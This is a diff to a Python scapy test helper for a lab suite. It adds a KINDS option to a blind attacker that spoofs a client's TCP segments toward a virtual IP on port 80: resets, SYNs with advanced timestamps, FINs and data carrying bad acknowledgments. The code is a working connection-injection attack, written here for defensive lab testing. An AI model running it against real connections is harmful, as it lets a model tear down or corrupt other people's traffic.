@@ -1,5 +1,6 @@
 #!/usr/bin/python3
-"""A blind attacker on one connection, with scapy, for tests/lab/blind.sh.
+"""A blind attacker on one connection, with scapy, for tests/lab/blind.sh
+and tests/lab/bench_attack.sh.
 
     blind.py peek CLIENT_PORT
         (in the client's namespace) prints "ready" once listening, then
@@ -14,15 +15,15 @@
         window closes, the connection stays open) and prints "paused",
         until GO_FILE exists (at most 300 s); then reads the rest and
         prints the body's sha256. Exits 1 if the connection fails.
-    blind.py attack VIP CLIENT CLIENT_PORT SEQ ACK COUNT SECONDS
+    blind.py attack VIP CLIENT CLIENT_PORT SEQ ACK COUNT SECONDS [KINDS]
         (in the attacker's namespace) sends segments as CLIENT:CLIENT_PORT
         to VIP:80 until COUNT are sent or SECONDS pass: RSTs at offsets
         from SEQ (in the window, not at it, and outside it), SYNs past the
         sequence space with a newer timestamp, FINs and data at those
         offsets with acknowledgments no stack takes (of data never sent,
         or more than a window old), then segments of each kind at random
-        sequence and acknowledgment numbers. Prints "N spoofed segments in S s".
-
+        sequence and acknowledgment numbers. KINDS (default RSFD) picks
+        RSTs, SYNs, FINs and data. Prints "N spoofed segments in S s".
     blind.py forward BACKEND CLIENT CLIENT_PORT SEQ COUNT
         (in the attacker's namespace) sends COUNT segments as
         CLIENT:CLIENT_PORT straight to BACKEND:80, as if the front-end
@@ -93,33 +94,40 @@ def fetch(vip, path, port, pause_at, go_file):
     print(digest.hexdigest(), flush=True)
 
 
-def segments(client, port, vip, seq, ack):
+def segments(client, port, vip, seq, ack, kinds):
+    """The attack's segments of the kinds in `kinds` (R: RSTs, S: SYNs,
+    F: FINs, D: data), the aimed ones first, then random ones forever."""
     base = IP(src=client, dst=vip)
     ts_ahead = [("Timestamp", (random.getrandbits(31) | (1 << 31), 0))]
     bad_acks = [(ack + (1 << 30)) & M32, (ack - (1 << 30)) & M32]
+    aimed = []
     for o in OFFSETS:
         s = (seq + o) & M32
-        yield base / TCP(sport=port, dport=80, flags="R", seq=s)
+        aimed.append(("R", TCP(sport=port, dport=80, flags="R", seq=s)))
         for a in bad_acks:
-            yield base / TCP(sport=port, dport=80, flags="FA", seq=s, ack=a)
-            yield base / TCP(sport=port, dport=80, flags="A", seq=s, ack=a) / (b"X" * 100)
+            aimed.append(("F", TCP(sport=port, dport=80, flags="FA", seq=s, ack=a)))
+            aimed.append(("D", TCP(sport=port, dport=80, flags="A", seq=s, ack=a) / (b"X" * 100)))
     for a in bad_acks:
-        yield base / TCP(sport=port, dport=80, flags="A", seq=seq, ack=a) / (b"X" * 100)
-    yield base / TCP(sport=port, dport=80, flags="S", seq=(seq + (1 << 30)) & M32,
-                     options=ts_ahead)
+        aimed.append(("D", TCP(sport=port, dport=80, flags="A", seq=seq, ack=a) / (b"X" * 100)))
+    aimed.append(("S", TCP(sport=port, dport=80, flags="S", seq=(seq + (1 << 30)) & M32,
+                           options=ts_ahead)))
+    for kind, t in aimed:
+        if kind in kinds:
+            yield base / t
+    flags = {"R": "R", "S": "S", "F": "FA", "D": "A"}
     while True:
-        kind = random.choice(["R", "S", "FA", "A"])
-        t = TCP(sport=port, dport=80, flags=kind, seq=random.getrandbits(32),
-                ack=random.getrandbits(32) if "A" in kind else 0,
+        kind = random.choice(kinds)
+        t = TCP(sport=port, dport=80, flags=flags[kind], seq=random.getrandbits(32),
+                ack=random.getrandbits(32) if kind in "FD" else 0,
                 options=ts_ahead if kind == "S" else [])
-        yield base / t / (b"X" * 100 if kind == "A" else b"")
+        yield base / t / (b"X" * 100 if kind == "D" else b"")
 
 
-def attack(vip, client, port, seq, ack, count, seconds):
+def attack(vip, client, port, seq, ack, count, seconds, kinds="RSFD"):
     sock = conf.L3socket()
     end = time.monotonic() + seconds
     sent = 0
-    for p in segments(client, port, vip, seq, ack):
+    for p in segments(client, port, vip, seq, ack, kinds):
         if sent >= count or time.monotonic() > end:
             break
         sock.send(p)
@@ -151,4 +159,4 @@ if __name__ == "__main__":
         forward(b, c, int(p), int(s), int(n))
     else:
         v, c, p, s, a, n, t = sys.argv[2:9]
-        attack(v, c, int(p), int(s), int(a), int(n), float(t))
+        attack(v, c, int(p), int(s), int(a), int(n), float(t), *sys.argv[9:10])
